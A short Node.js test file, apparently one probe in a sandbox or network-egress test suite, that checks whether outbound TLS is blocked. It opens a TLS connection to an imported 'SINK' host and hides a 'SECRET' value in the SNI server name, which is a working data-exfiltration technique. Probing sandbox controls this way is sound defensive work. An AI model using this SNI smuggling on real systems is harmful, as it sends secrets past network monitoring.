// class: network
// rule: outbound_connectivity
// success: Node's TLS reaches the outside, and the server's name in its greeting carries data
// proof: sink
'use strict';
const tls = require('tls');
const { attempt, SECRET, SINK } = require('./attack.js');
attempt(() => new Promise((fine, bad) => {
    const out = tls.connect({ ...SINK, servername: SECRET + '.example' });
    out.on('error', (error) => (error.code === 'EACCES' ? bad(error) : fine(true)));
    out.on('close', () => fine(true));
}));
